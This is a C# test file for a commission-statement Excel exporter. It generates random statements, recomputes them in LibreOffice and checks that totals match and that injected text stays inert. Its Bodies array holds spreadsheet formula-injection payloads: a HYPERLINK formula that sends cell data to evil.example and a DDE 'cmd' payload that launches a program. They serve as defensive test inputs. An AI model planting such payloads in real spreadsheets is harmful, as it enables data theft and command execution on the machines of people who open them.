using System.Diagnostics;
using RevOps.Core.Commission;
using RevOps.Core.Commission.Excel;
using RevOps.Tests.Reports;
using RevOps.Tests.TestKit;

namespace RevOps.Tests.Commission.Excel;

/// <summary>Statements of companies drawn by a seed, all computed again by LibreOffice: no cent off, no error, and no text that runs.</summary>
public sealed class RandomStatementTests(ITestOutputHelper output) : IDisposable
{
    private static readonly string[] Bodies = ["1+1", "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "cmd|'/C calc'!A0"];
    private readonly string _folder = Directory.CreateTempSubdirectory("revops-test-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void Five_hundred_statements_compute_themselves_again() => Assert.InRange(Reperform(11, 15), 500, 600);

    /// <summary>Thousands in other companies, when asked for.</summary>
    [Theory(Explicit = true)]
    [InlineData(100)]
    [InlineData(110)]
    [InlineData(120)]
    [InlineData(130)]
    public void A_thousand_more_compute_themselves_again(int seed) => Assert.InRange(Reperform(seed, seed + 9), 1_000, 1_200);

    private int Reperform(int firstSeed, int lastSeed)
    {
        List<string> evil = [.. FormulaTests.Prefixes.SelectMany(_ => Bodies, (prefix, body) => prefix + body)];
        var (files, count, lines, clock) = (new List<string>(), 0, 0, Stopwatch.StartNew());
        for (var seed = firstSeed; seed <= lastSeed; seed++)
        {
            using var company = new RandomCompany(seed).Company(9, evil);
            var (statements, book) = (company.Run("2026-12-31"), company.Book("2026-12-31"));
            files.Add(Path.Combine(_folder, $"{seed}.xlsx"));
            using (var target = new FileStream(files[^1], FileMode.Create, FileAccess.Write))
                StatementWorkbook.WriteTogether(statements.GroupBy(statement => statement.Payee.Id).Select(payee => (IReadOnlyList<CommissionStatement>)[.. payee]), book, StatementWorkbookTests.Head, target);
            (count, lines) = (count + statements.Count, lines + statements.Sum(statement => statement.Parts.Sum(part => part.Lines.Count)));
        }
        var (written, all, texts) = (clock.Elapsed, 0, 0);

        foreach (var (file, opened) in LibreOffice.Open(files))
        {
            var differences = WorkbookCells.Differences(Path.Combine(_folder, file), opened, out var formulas);
            Assert.True(differences.Count == 0, $"{file}: {differences.Count} of {formulas} differ\n{string.Join('\n', differences.Take(25))}");
            Assert.All(WorkbookCells.Checks(opened), check => Assert.Equal(0m, check));
            var active = opened.Values.SelectMany(rows => rows).SelectMany(row => row).Where(cell => Bodies.Any(body => cell.Text.Contains(body, StringComparison.Ordinal))).ToList();
            Assert.All(active, text => Assert.Null(text.Formula));
            (all, texts) = (all + formulas, texts + active.Count);
        }
        output.WriteLine($"{count} statements, {lines} lines, {all} formulas, {texts} texts that would run; written in {written.TotalSeconds:0.0} s, opened and compared by {clock.Elapsed.TotalSeconds:0.0} s");
        Assert.InRange(texts, 1_000, int.MaxValue);
        return count;
    }
}
